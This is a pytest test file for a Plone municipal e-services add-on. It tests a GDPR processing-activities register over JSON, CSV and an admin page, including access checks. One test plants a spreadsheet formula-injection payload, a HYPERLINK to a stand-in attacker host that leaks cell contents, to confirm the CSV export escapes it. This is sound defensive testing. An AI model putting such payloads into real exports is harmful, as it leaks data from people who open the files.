"""Issue #15: the register of processing activities (GDPR art. 30), over
REST (JSON and CSV) and as the Site Administrators' page."""

from fixtures.forms import FIELDS_FORM
from fixtures.forms import PRIVACY_INFORMATION
from fixtures.openapi import conforms
from imio.guichet.caller import Caller
from imio.guichet.demo import ensure_content
from imio.guichet.demo import procedures_folder
from imio.guichet.errors import Forbidden
from imio.guichet.errors import LoginRequired
from imio.guichet.usecases.privacy import processing_register
from plone import api

import csv
import io
import pytest
import transaction


#: What the demo procedures' forms collect (their field kinds), and what
#: their webmaster flagged.
DEMO_CATEGORIES = {
    "Demande d'extrait d'acte de naissance": (
        ["identification", "contact", "national_register_number"],
        [],
    ),
    "Déclaration de perte d'un objet": (
        ["identification", "contact", "free_text"],
        [],
    ),
    "Demande d'occupation du domaine public": (
        ["identification", "contact", "files", "free_text"],
        [],
    ),
    # A verified identity records the national register number.
    "Demande de composition de ménage": (
        ["identification", "contact", "national_register_number"],
        [],
    ),
    "Inscription aux stages d'été": (
        ["identification", "contact", "free_text"],
        ["health"],
    ),
}


@pytest.fixture
def demo(portal):
    portal.portal_workflow.setDefaultChain("simple_publication_workflow")
    with api.env.adopt_roles(["Manager"]):
        ensure_content(portal)
    return portal


def as_admin(portal):
    return api.env.adopt_roles(["Site Administrator"])


class TestUseCase:
    def test_demo_procedures_categories(self, demo):
        with as_admin(demo):
            register = processing_register(Caller("admin_r", language="fr"))
        found = {
            entry["title"]: (entry["data_categories"], entry["special_categories"])
            for entry in register
        }
        assert found == DEMO_CATEGORIES
        # Every demo procedure is complete, and says it all.
        for entry in register:
            assert entry["complete"], entry["missing"]
            assert entry["legal_basis"] in ("c", "e")
            assert entry["legal_reference"]
            assert entry["recipients"]
            assert entry["dpo"]["email"] == "dpo@example.org"
            assert entry["security_measures"]
        stages = next(e for e in register if e["title"].startswith("Inscription"))
        assert stages["special_category_titles"] == ["Données concernant la santé"]

    def test_follows_the_form(self, demo):
        """Computed when read: a new field is in the next reading."""
        procedure = procedures_folder(demo)["declaration-de-perte"]
        procedure.form_schema = FIELDS_FORM
        with as_admin(demo):
            entry = next(
                e
                for e in processing_register(Caller("admin_r"))
                if e["uid"] == procedure.UID()
            )
        assert entry["data_categories"] == [
            "identification",
            "contact",
            "national_register_number",
            "financial",
            "files",
        ]

    def test_incomplete_procedure_is_listed_as_such(self, portal, procedure):
        procedure.privacy_purpose = ""
        with as_admin(portal):
            (entry,) = processing_register(Caller("admin_r"))
        assert not entry["complete"]
        assert not entry["open"]
        assert entry["missing"] == ["la finalité"]  # the site's language

    def test_refused(self, portal, procedure):
        with pytest.raises(LoginRequired):
            processing_register(Caller(None))
        with api.env.adopt_roles(["Editor"]), pytest.raises(Forbidden):
            processing_register(Caller("ed"))


class TestRest:
    def test_json(self, site, session_for):
        answer = session_for("siteadmin").get("@guichet-register")
        assert answer.status_code == 200, answer.text
        register = answer.json()
        assert register["items_total"] == 2
        for entry in register["items"]:
            conforms(entry, "ProcessingActivity")
        assert {e["title"] for e in register["items"]} == {"Extrait", "Occupation"}

    def test_back_offices_from_the_integrations(self, site, session_for):
        admin = session_for("siteadmin")
        uid = site.demarches.x.UID()
        made = admin.post(
            "@guichet-webhooks",
            json={"procedure": uid, "url": "https://erp.example/in"},
        )
        assert made.status_code == 201, made.text
        items = admin.get("@guichet-register").json()["items"]
        x = next(entry for entry in items if entry["uid"] == uid)
        assert x["back_offices"] == ["erp.example"]
        assert x["recipients"] == PRIVACY_INFORMATION["privacy_recipients"]
        y = next(entry for entry in items if entry["uid"] != uid)
        assert y["back_offices"] == []

    @pytest.mark.parametrize("who", ["Anonymous", "editor", "backoffice_x"])
    def test_refused(self, site, session_for, who):
        answer = session_for(who).get("@guichet-register")
        assert answer.status_code == 401
        assert "Extrait" not in answer.text

    @pytest.mark.parametrize(
        ("query", "headers"),
        [({"format": "csv"}, {}), ({}, {"Accept": "text/csv"})],
    )
    def test_csv_is_formula_safe(self, site, session_for, query, headers):
        x = site.demarches.x
        x.privacy_purpose = '=HYPERLINK("http://evil.example/?"&A1,"Clic")'
        x.privacy_recipients = ["+32 service", "@SUM(1)", "Service -1"]
        transaction.commit()
        answer = session_for("siteadmin").get(
            "@guichet-register", params=query, headers=headers
        )
        assert answer.status_code == 200, answer.text
        assert answer.headers["Content-Type"].startswith("text/csv")
        rows = list(csv.reader(io.StringIO(answer.content.decode("utf-8"))))
        assert rows[0][0] == "Processing activity"
        extrait = next(row for row in rows if row[0] == "Extrait")
        assert extrait[3] == "'" + x.privacy_purpose
        # A spreadsheet reads a formula from the start of a cell only.
        assert extrait[8].splitlines() == ["'+32 service", "@SUM(1)", "Service -1"]
        for row in rows:
            for cell in row:
                assert not cell.startswith(("=", "+", "-", "@"))

    def test_unknown_format(self, site, session_for):
        answer = session_for("siteadmin").get(
            "@guichet-register", params={"format": "xlsx"}
        )
        assert answer.status_code == 400
        conforms(answer.json(), "AnyError")


class TestPage:
    def test_site_administrator_reads_it(self, site, browser_for):
        x = site.demarches.x
        x.privacy_special_categories = ["health"]
        transaction.commit()
        browser = browser_for("siteadmin")
        browser.open(site.absolute_url() + "/@@guichet-register")
        assert "Register of processing activities" in browser.contents
        assert (
            PRIVACY_INFORMATION["privacy_purpose"].replace("'", "&#x27;")
            in (browser.contents)
            or PRIVACY_INFORMATION["privacy_purpose"] in browser.contents
        )
        assert "Data concerning health" in browser.contents
        browser.getLink(url="format=csv").click()
        assert browser.headers["Content-Type"].startswith("text/csv")
        assert "Extrait" in browser.contents

    @pytest.mark.parametrize("who", ["editor", "backoffice_x"])
    def test_others_may_not(self, site, session_for, who):
        answer = session_for(who).get("@@guichet-register", allow_redirects=False)
        assert answer.status_code in (302, 401, 403)
        assert "Extrait" not in answer.text
